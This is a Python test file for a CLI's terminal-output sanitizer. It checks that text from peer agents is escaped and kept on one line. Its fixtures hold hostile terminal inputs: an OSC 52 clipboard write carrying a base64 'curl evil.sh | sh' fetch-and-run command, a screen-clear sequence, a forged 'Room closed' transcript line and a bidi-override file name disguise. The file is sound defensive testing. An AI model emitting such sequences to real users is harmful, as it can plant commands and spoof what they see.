"""`render.safe` and `render.json_line`: a peer's string reaches the owner's terminal harmless and on one line."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clawroomd.cli import render
from clawroomd.cli.render import safe

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # write to the owner's clipboard
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
FORGED = "ok\n00:09.999 system Room closed. Result: agreement_reached."
BIDI = "invoice\u202etxt.exe"


def obeyable(text: str) -> list[str]:
    """Characters a terminal would act on rather than show (what `safe` must never let through)."""
    joiners = "\u200c\u200d"
    return [ch for ch in text if unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs") and ch not in joiners]


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (OSC52, "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"),
        (CLEAR, "\\x1b[2J\\x1b[H"),
        (FORGED, "ok\u23ce00:09.999 system Room closed. Result: agreement_reached."),
        ("a\r\nb", "a\u23ceb"),
        ("50 EUR\rnothing agreed", "50 EUR\\rnothing agreed"),
        (BIDI, "invoice\\u202etxt.exe"),
        ("x\u2066y\u2069", "x\\u2066y\\u2069"),
        ("tag\U000e0041", "tag\\U000e0041"),
        ("8-bit CSI \x9b2J", "8-bit CSI \\x9b2J"),
        ("lone \ud800", "lone \\ud800"),
        ("a\u2028b", "a\\u2028b"),
        ("tab\there", "tab\\there"),
    ],
    ids=["osc52", "csi-clear", "forged-line", "crlf", "cr", "bidi-override", "bidi-isolate", "tag", "c1", "surrogate",
         "line-separator", "tab"],
)  # fmt: skip
def test_hostile_strings_are_made_visible(raw, shown):
    assert safe(raw) == shown
    assert obeyable(safe(raw)) == []
    assert "\n" not in safe(raw)


@pytest.mark.parametrize(
    "text",
    ["integer minor units", "Zoë · 50 000 €", "営業担当", "👨\u200d👩\u200d👧", "مدیر\u200cفروش", "a\u00a0b", ""],
)
def test_ordinary_text_is_untouched(text):
    assert safe(text) == text


def test_non_strings_are_shown_as_text():
    assert safe(20) == "20" and safe(None) == "None"


@given(st.text())
def test_nothing_obeyable_ever_gets_through(text):
    out = safe(text)
    assert obeyable(out) == [] and "\n" not in out
    out.encode("utf-8")  # printable: no lone surrogate left


JSON_VALUES = st.recursive(
    st.text() | st.integers() | st.none(), lambda kids: st.lists(kids) | st.dictionaries(st.text(), kids)
)


@given(JSON_VALUES)
def test_json_line_is_the_same_value_and_harmless(value):
    line = render.json_line(value)
    assert json.loads(line) == value
    assert obeyable(line) == [] and "\n" not in line


def test_json_line_keeps_ordinary_text_readable():
    assert render.json_line({"label": "Zoë", "text": "a\u202eb\x9b"}) == '{"label": "Zoë", "text": "a\\u202eb\\u009b"}'


def test_a_transcript_line_cannot_be_forged_or_clear_the_screen():
    r = render.TranscriptRenderer({"host": {"label": "stripe-agent"}, "guest": {"label": "backend-agent"}})
    r.line({"seq": 0, "kind": "room_created", "author": "host", "ts": 1000,
            "body": {"topic": "t", "max_turns": 6, "fields": [{"name": "price"}]}})  # fmt: skip
    out = r.line({
        "seq": 2, "kind": "message", "author": "guest", "ts": 2000,
        "body": {"text": FORGED + CLEAR, "moves": [{"op": "propose", "field": "price", "value": OSC52 + "\n12"}]},
    })  # fmt: skip
    lines = out.split("\n")
    assert len(lines) == 2  # the message line and its one move line: nothing forged
    assert lines[0].startswith("00:01.000 backend-agent ok\u23ce00:09.999 system")
    assert lines[1].strip() == "propose price = \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\u23ce12"
    assert obeyable(out.replace("\n", "")) == []


def test_the_status_card_shows_peer_strings_safely():
    view = {
        "room_id": "cr_00", "role": "host", "topic": "t", "goal": "g\x1b[2J\nline two", "lifecycle": "active",
        "participants": {"host": {"label": "me", "peer_id": "A-B-C"}, "guest": {"label": "x\u202ey", "peer_id": "D-E"}},
        "fields": [{"name": "price", "status": "proposed", "proposals": {"guest": OSC52}}],
        "result": {"status": "cancelled", "reason": "guest: cancelled (" + CLEAR + ")", "outcomes": {}},
    }  # fmt: skip
    card = render.status_card(view)
    assert obeyable(card.replace("\n", "")) == []
    assert "Goal: g\\x1b[2J\u23celine two" in card and "x\\u202ey" in card and "\\x1b]52;c;" in card
